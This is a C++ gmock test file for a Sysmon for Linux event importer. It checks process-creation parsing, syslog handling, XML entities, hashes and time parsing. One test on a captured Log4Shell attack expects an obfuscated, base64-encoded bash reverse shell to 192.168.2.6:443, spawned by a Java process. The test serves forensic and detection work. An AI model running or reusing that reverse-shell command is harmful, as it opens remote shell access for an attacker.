// Sysmon for Linux as a real attack left it, in JSON and in syslog lines, and damaged.
#include <gmock/gmock.h>

#include "tests/trace/import/imported.h"
#include "trace/import/sysmon_xml.h"

namespace exectrail::test {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::Field;
using trace::EvidenceClass;
using trace::SensorKind;

std::string created(int pid, int parent, const std::string& more = {}) {
  return "<Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID><TimeCreated "
         "SystemTime=\"2022-05-11T18:10:22.003485000Z\"/><EventRecordID>5</EventRecordID>"
         "<Computer>web03</Computer></System><EventData><Data Name=\"UtcTime\">2022-05-11 "
         "18:10:21.998</Data><Data Name=\"ProcessId\">" +
         std::to_string(pid) +
         "</Data><Data Name=\"Image\">/tmp/x</Data><Data Name=" + "\"ParentProcessId\">" +
         std::to_string(parent) + "</Data>" + more + "</EventData></Event>\n";
}

TEST(ImportSysmon, ALog4ShellAttack) {
  const Imported trace = imported(SensorKind::kSysmon, captured("sysmon-log4shell.txt"));
  const auto execs = trace.of<trace::Exec>();
  ASSERT_EQ(execs.size(), 12U);
  const trace::Exec& shell = execs[0];
  EXPECT_EQ(shell.image.executable.value, "/bin/bash");
  EXPECT_EQ(shell.image.id.tgid, 17790U);
  EXPECT_THAT(shell.image.arguments.value,
              ElementsAre("bash", "-c",
                          "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|"
                          "{base64,-d}|{bash,-i}"));
  EXPECT_EQ(shell.image.arguments.evidence.evidenceClass, EvidenceClass::kInferred)
      << "Sysmon joined them";
  EXPECT_FALSE(shell.image.argumentShape.known());
  EXPECT_FALSE(shell.typedPath.known());
  EXPECT_FALSE(shell.image.context->credentials.known());
  const auto parents = trace.of<trace::Snapshot>();
  ASSERT_FALSE(parents.empty());
  EXPECT_EQ(parents[0].image.executable.value, "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java");
  EXPECT_EQ(shell.image.creator.value.id, parents[0].image.id);
  EXPECT_THAT(execs,
              Contains(Field(&trace::Exec::image,
                             Field(&trace::Image::creator, testing::Truly([&](const auto& creator) {
                               return creator.value.id == shell.image.id;
                             })))))
      << "what the shell started hangs below it";
  EXPECT_EQ(trace.header.host.name, "UBUNTU5");
  EXPECT_EQ(trace.header.clock.toRealtimeNs(trace.records[0].timeNs), 1'652'292'621'998'000'000);
  EXPECT_EQ(trace.report.counts.unreadable, 0U);
  EXPECT_FALSE(trace.report.counts.remarks.empty()) << "cut off, and without semicolons";
}

TEST(ImportSysmon, SyslogLinesWithXmlAndOthers) {
  const Imported trace = imported(
      SensorKind::kSysmon,
      "May 11 18:10:20 web03 cron[1]: hello\nMay 11 18:10:22 web03 sysmon: " + created(9, 4) +
          "May 11 18:10:22 web03 sysmon: <Event><System><EventID>1</EventID></System>\n");
  ASSERT_EQ(trace.of<trace::Exec>().size(), 1U);
  EXPECT_EQ(trace.report.counts.other, 1U);
  EXPECT_EQ(trace.report.counts.unreadable, 1U);
}

TEST(ImportSysmon, HashesEntitiesAndDashes) {
  const std::string hash(64, 'a');
  const Imported trace =
      imported(SensorKind::kSysmon,
               created(9, 4,
                       "<Data Name=\"CommandLine\">x &lt;&amp;&#39;&#xff;&gt; &bogus; &</Data>"
                       "<Data Name=\"CurrentDirectory\">-</Data>"
                       "<Data Name=\"Hashes\">MD5=00,SHA256=" +
                           hash + "</Data>"));
  const auto execs = trace.of<trace::Exec>();
  ASSERT_EQ(execs.size(), 1U);
  EXPECT_THAT(execs[0].image.arguments.value, ElementsAre("x", "<&'\xff>", "&bogus;", "&"));
  EXPECT_FALSE(execs[0].image.workingDirectory.known());
  EXPECT_EQ(execs[0].image.sha256.value, std::string(32, '\xaa'));
}

TEST(ImportSysmon, Times) {
  std::uint64_t ns = 0;
  EXPECT_TRUE(trace::parseUtc("1970-01-01 00:00:00.000", ns));
  EXPECT_EQ(ns, 0U);
  EXPECT_TRUE(trace::parseUtc("2024-02-29T23:59:59.123456789Z", ns));
  EXPECT_EQ(ns, 1'709'251'199'123'456'789U);
  EXPECT_FALSE(trace::parseUtc("2024-13-01 00:00:00", ns));
  EXPECT_FALSE(trace::parseUtc("2024-02-29", ns));
  EXPECT_FALSE(trace::parseUtc("", ns));
}

}  // namespace
}  // namespace exectrail::test
